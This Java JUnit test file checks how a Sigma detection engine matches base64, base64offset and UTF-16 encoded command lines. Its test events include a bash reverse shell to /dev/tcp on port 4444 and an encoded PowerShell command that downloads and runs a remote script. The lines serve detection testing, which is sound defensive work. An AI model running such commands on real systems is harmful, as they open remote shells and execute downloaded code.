package io.vigil.detect.sigma.match;

import static io.vigil.detect.sigma.match.Fixtures.hits;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import org.junit.jupiter.api.Test;

/**
 * base64, base64offset and the utf16 forms, checked against strings encoded here as a whole (an
 * independent encoding of the event, not of the rule value).
 */
class EncodingModifiersTest {

  private static String b64(byte[] b) {
    return Base64.getEncoder().encodeToString(b);
  }

  private static String b64(String s) {
    return b64(s.getBytes(StandardCharsets.UTF_8));
  }

  private static String latin1(byte[] b) {
    return new String(b, StandardCharsets.ISO_8859_1);
  }

  @Test
  void base64MatchesTheEncodedValue() {
    assertTrue(hits("CommandLine|base64", b64("/bin/bash -i"), "/bin/bash -i"));
    assertFalse(hits("CommandLine|base64", b64("/bin/bash -x"), "/bin/bash -i"));
  }

  @Test
  void base64ContainsFindsAnAlignedEncoding() {
    String event = "echo " + b64("sh -i") + " | base64 -d";
    assertTrue(hits("CommandLine|base64|contains", event, "sh -i"));
    assertFalse(hits("CommandLine|base64|contains", "echo " + b64("sh -x"), "sh -i"));
  }

  @Test
  void base64offsetFindsTheValueAtEachOfTheThreeShifts() {
    for (String prefix : new String[] {"", "x", "xy", "xyz", "wxyz"}) {
      String encoded = b64(prefix + "/bin/sh -i >& /dev/tcp/" + "10.0.0.1/4444");
      assertTrue(
          hits("CommandLine|base64offset|contains", "echo " + encoded, "/dev/tcp/"),
          "prefix length " + prefix.length());
    }
  }

  @Test
  void base64offsetMissesANearValueAtEveryShift() {
    for (String prefix : new String[] {"", "x", "xy"}) {
      String encoded = b64(prefix + "/bin/sh -i >& /dev/udp/10.0.0.1/4444");
      assertFalse(
          hits("CommandLine|base64offset|contains", encoded, "/dev/tcp/"),
          "prefix length " + prefix.length());
    }
  }

  @Test
  void utf16leEncodesLowByteFirst() {
    // Spec example: 'cmd' > 63 00 6d 00 64 00
    String event = latin1(new byte[] {0x63, 0, 0x6d, 0, 0x64, 0});
    assertTrue(hits("Data|utf16le", event, "cmd"));
    assertFalse(hits("Data|utf16le", latin1(new byte[] {0, 0x63, 0, 0x6d, 0, 0x64}), "cmd"));
  }

  @Test
  void utf16beEncodesHighByteFirst() {
    // Spec example: 'cmd' > 00 63 00 6d 00 64
    String event = latin1(new byte[] {0, 0x63, 0, 0x6d, 0, 0x64});
    assertTrue(hits("Data|utf16be", event, "cmd"));
    assertFalse(hits("Data|utf16be", latin1(new byte[] {0x63, 0, 0x6d, 0, 0x64, 0}), "cmd"));
  }

  @Test
  void utf16PrependsTheByteOrderMark() {
    // Spec example: 'cmd' > FF FE 63 00 6d 00 64 00
    byte[] withBom = {(byte) 0xff, (byte) 0xfe, 0x63, 0, 0x6d, 0, 0x64, 0};
    assertTrue(hits("Data|utf16", latin1(withBom), "cmd"));
    assertFalse(hits("Data|utf16", latin1(new byte[] {0x63, 0, 0x6d, 0, 0x64, 0}), "cmd"));
  }

  @Test
  void wideIsUtf16le() {
    String event = latin1("cmd".getBytes(StandardCharsets.UTF_16LE));
    assertTrue(hits("Data|wide", event, "cmd"));
    assertFalse(hits("Data|wide", "cmd", "cmd"));
  }

  @Test
  void utf16leThenBase64offsetFindsAnEncodedPowerShellCommand() {
    String script = "IEX (New-Object Net.WebClient).DownloadString('http://x/a')";
    for (String prefix : new String[] {"", "$a;", "$ab;"}) {
      String enc = b64((prefix + script).getBytes(StandardCharsets.UTF_16LE));
      assertTrue(
          hits("CommandLine|utf16le|base64offset|contains", "powershell -enc " + enc, "IEX ("),
          "prefix " + prefix);
      assertTrue(
          hits("CommandLine|wide|base64offset|contains", "powershell -enc " + enc, "IEX ("),
          "prefix " + prefix);
    }
    String other = b64("IEX (".getBytes(StandardCharsets.UTF_8));
    assertFalse(hits("CommandLine|wide|base64offset|contains", other, "IEX ("));
  }

  @Test
  void utf16beThenBase64MatchesBigEndianBytes() {
    String enc = b64("whoami".getBytes(StandardCharsets.UTF_16BE));
    assertTrue(hits("Data|utf16be|base64", enc, "whoami"));
    assertFalse(
        hits("Data|utf16be|base64", b64("whoami".getBytes(StandardCharsets.UTF_16LE)), "whoami"));
  }

  @Test
  void utf16ThenBase64IncludesTheByteOrderMark() {
    // Java's UTF-16 encoder writes a big-endian mark; the spec's utf16 is FF FE (little-endian).
    byte[] le = "whoami".getBytes(StandardCharsets.UTF_16LE);
    byte[] withBom = new byte[le.length + 2];
    withBom[0] = (byte) 0xff;
    withBom[1] = (byte) 0xfe;
    System.arraycopy(le, 0, withBom, 2, le.length);
    assertTrue(hits("Data|utf16|base64", b64(withBom), "whoami"));
    assertFalse(hits("Data|utf16|base64", b64(le), "whoami"));
  }

  @Test
  void base64offsetProducesThePySigmaStrings() throws Exception {
    // The three shifts of 'Invoke-' as pySigma and SigmaHQ rules write them.
    assertEquals(
        "[SW52b2tlL, ludm9rZS, JbnZva2Ut]",
        SigmaString.parse("Invoke-").base64Offsets("x").toString());
  }
}
